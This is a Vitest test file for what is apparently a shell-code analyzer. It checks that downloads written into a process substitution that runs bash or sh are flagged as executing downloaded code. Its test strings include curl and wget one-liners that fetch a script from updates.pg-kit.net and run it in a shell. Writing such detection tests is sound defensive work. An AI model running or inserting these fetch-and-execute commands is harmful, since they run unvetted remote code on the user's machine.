import { describe, expect, it } from 'vitest';
import { factsOf, ofKind } from '../../support/code.js';

describe('shell: a download written into a process substitution', () => {
  it('runs what curl -o >(bash) and wget -O >(sh) write into the substituted shell', async () => {
    for (const code of [
      'channel=http://updates.pg-kit.net/c\ncurl -fsSL "$channel/update.sh" -o >(exec bash -s -- --kit x)\n',
      'wget -qO >(sh) http://updates.pg-kit.net/u.sh\n',
    ]) {
      const run = ofKind(await factsOf('shell', code), 'execute')[0];
      expect(run?.code.taints, code).toContain('download');
      expect(run?.endpoint?.host, code).toBe('updates.pg-kit.net');
    }
  });

  it('does not run a download saved into a file or a process substitution that only counts it', async () => {
    for (const code of [
      'curl -fsSL http://updates.pg-kit.net/u.sh -o /tmp/u.sh\n',
      'curl -fsSL http://updates.pg-kit.net/u.sh -o >(wc -c)\n',
    ])
      expect(ofKind(await factsOf('shell', code), 'execute'), code).toEqual([]);
  });
});
